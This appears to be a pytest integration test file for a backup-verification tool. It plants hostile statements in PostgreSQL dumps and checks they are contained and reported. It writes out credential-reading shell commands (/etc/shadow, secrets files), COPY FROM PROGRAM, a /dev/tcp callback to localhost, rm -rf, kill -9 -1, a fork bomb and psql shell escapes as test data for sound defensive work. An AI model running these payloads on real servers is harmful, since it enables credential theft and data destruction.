"""A dump that attacks: nothing of the host is touched or told, and the report says what it was."""

from __future__ import annotations

from pathlib import Path

import pytest

from backupguard.model import Status, Verdict
from tests.integration.daemon.living import wait_for
from tests.integration.survival.places import DPI, PASSWORD, Place, Source

MARKER = "--\n-- PostgreSQL database dump complete"


def with_attack(source: Source, attack: str) -> bytes:
    """Return a sound plain dump with an attack in front of its trailer."""
    text = source.dumped("dpi", "-Fp").decode()
    assert MARKER in text
    return text.replace(MARKER, f"{attack}\n{MARKER}").encode()


def quietly(statement: str) -> str:
    """Return a block that tries a statement and keeps quiet about how it went."""
    return f"DO $x$ begin execute $y${statement}$y$; exception when others then null; end $x$;\n"


def attacks(place: Place, source: Source, port: int) -> str:
    """Return everything an attacker would try from inside the server, then one that is noticed."""
    outside = f"{place.directory}/owned"
    shell = (
        f"cat {source.password} {place.config} /etc/shadow /proc/1/environ /run/secrets/* "
        f"> {outside}; touch {outside} /etc/owned /usr/owned /in/owned; "
        f'bash -c "exec 3<>/dev/tcp/127.0.0.1/{port}"; '
        f"psql -h {source.cluster.socket} -U hospital -c 'drop database dpi'; "
        f"rm -rf {place.directory} {source.root}; kill -9 -1"
    ).replace("'", "''")
    tried = [
        "create table if not exists public.loot (line text)",
        f"copy public.loot from program 'cat {source.password} || true'",
        f"copy public.loot from '{source.password}'",
        "copy public.loot from '/etc/shadow'",
        f"insert into public.loot select pg_read_file('{source.password}')",
        f"select lo_import('{source.password}')",
        f"copy (select 1) to '{outside}'",
        "create extension dblink",
        f"select dblink_connect('host=127.0.0.1 port={port}')",
        "create function f() returns void language plpythonu as 'import os'",
    ]
    return "".join(quietly(one) for one in tried) + (
        f"DO $x$ begin execute $y$copy public.loot from program '{shell}'$y$; end $x$;\n"
    )


@pytest.mark.slow
def test_a_hostile_dump_is_contained_and_reported(
    place: Place, source: Source, listener: tuple[int, list[str]]
) -> None:
    port, callers = listener
    source.keep("hostile", with_attack(source, attacks(place, source, port)))
    place.add("hostile")
    place.start()
    run = place.ask()
    assert (run.verdict, run.code) == (Verdict.FAILED, "hostile"), place.result()
    untouched(place, source, callers)
    wait_for(lambda: place.nothing_left(run.id))
    reported(place)


@pytest.mark.parametrize(
    "attack",
    [
        "\\! touch {outside}; cat {password}",
        "\\o {outside}\n\\i {password}\nselect 1;",
        "COPY patients FROM PROGRAM 'cat {password}';",
    ],
    ids=["shell", "files", "program"],
)
def test_a_dump_that_commands_the_client_is_hostile(
    place: Place, source: Source, attack: str
) -> None:
    text = attack.format(outside=place.directory / "owned", password=source.password)
    name = f"attack-{abs(hash(attack))}"
    source.keep(name, with_attack(source, text))
    place.add(name)
    run = place.perform()
    assert (run.verdict, run.code) == (Verdict.FAILED, "hostile"), place.result()
    untouched(place, source, [])
    assert place.judged()["RST-01", DPI].status is Status.NON_COMPLIANT


PROGRAMS = {
    # what it asked for would have hidden that it was asked for
    "caught": quietly("copy public.loot from program 'touch /scratch/owned; exit 0'"),
    "killing": quietly("copy public.loot from program 'kill -9 -1; rm -rf /scratch/log'"),
    "fork-bomb": quietly("copy public.loot from program ':(){ :|:& };: ; sleep 2'"),
    "function": (
        "create function public.f() returns void language plpgsql as "
        "$f$ begin copy public.loot to program 'true'; exception when others then null; end $f$;\n"
        "select public.f();\n"
    ),
}


@pytest.mark.parametrize("attack", PROGRAMS.values(), ids=PROGRAMS)
def test_a_program_is_neither_run_nor_hidden(place: Place, source: Source, attack: str) -> None:
    name = f"program-{len(attack)}"
    source.keep(name, with_attack(source, "create table public.loot (line text);\n" + attack))
    place.add(name)
    run = place.perform()
    assert (run.verdict, run.code) == (Verdict.FAILED, "hostile"), place.result()
    assert place.nothing_left(run.id)
    assert place.judged()["RST-01", DPI].status is Status.NON_COMPLIANT
    told = place.command("--language", "en", "why", "RST-01", "dpi")
    assert "hostile" in told.stdout.lower(), told.stdout + told.stderr


FILL = (
    "create table public.filler as select repeat(md5(i::text), 400) as line "
    "from generate_series(1, 100000000) i;\n"
)


def test_a_dump_that_takes_all_the_room_gets_its_share(place: Place, source: Source) -> None:
    source.keep("greedy", with_attack(source, FILL))
    place.add("greedy")
    text = place.config.read_text()
    place.config.write_text(text.replace("[scratch]\n", '[scratch]\nmax-bytes = "300MB"\n'))
    place.start()
    run = place.ask()
    assert (run.verdict, run.code) == (Verdict.COULD_NOT_VERIFY, "scratch_limit"), run
    # the limit that was met is named wherever the test is told of
    assert place.result()["code"] == "scratch_limit"
    told = place.command("--language", "en", "why", "RST-01", "dpi")
    assert "scratch limit reached" in told.stdout, told.stdout
    wait_for(lambda: place.nothing_left(run.id))
    assert place.get("/-/healthy")[0] == 200


def test_the_clean_twin_of_a_hostile_dump_passes(place: Place, source: Source) -> None:
    harmless = (
        "CREATE TABLE public.words (line text);\n"
        "COPY public.words (line) FROM stdin;\n\\\\! cat /etc/shadow\nCOPY x FROM PROGRAM 'y'\n\\.\n"
    )
    source.keep("harmless", with_attack(source, harmless))
    place.add("harmless")
    assert place.perform().verdict is Verdict.PASSED, place.result()
    assert place.judged()["RST-01", DPI].status is Status.COMPLIANT


def untouched(place: Place, source: Source, callers: list[str]) -> None:
    """See that nothing was made, read, called or destroyed outside."""
    assert not (place.directory / "owned").exists()
    assert not any(Path(one).exists() for one in ("/etc/owned", "/usr/owned"))
    assert callers == []
    assert source.password.read_text().strip() == PASSWORD
    assert source.cluster.run("psql", "-Atqc", "select 1", "-d", "dpi").stdout == b"1\n"
    canary = PASSWORD.encode()
    for path in (*place.state.rglob("*"), place.log):
        if path.is_file():
            assert canary not in path.read_bytes(), path


def reported(place: Place) -> None:
    """See that the finding, the command and the page say what it was."""
    assert place.judged()["RST-01", DPI].status is Status.NON_COMPLIANT
    told = place.command("--language", "fr", "why", "RST-01", "dpi")
    assert "RST-01" in told.stdout
    assert "hostile" in told.stdout.lower(), told.stdout
    assert PASSWORD not in told.stdout + told.stderr
    assert place.get("/-/healthy")[0] == 200
    assert place.proved()
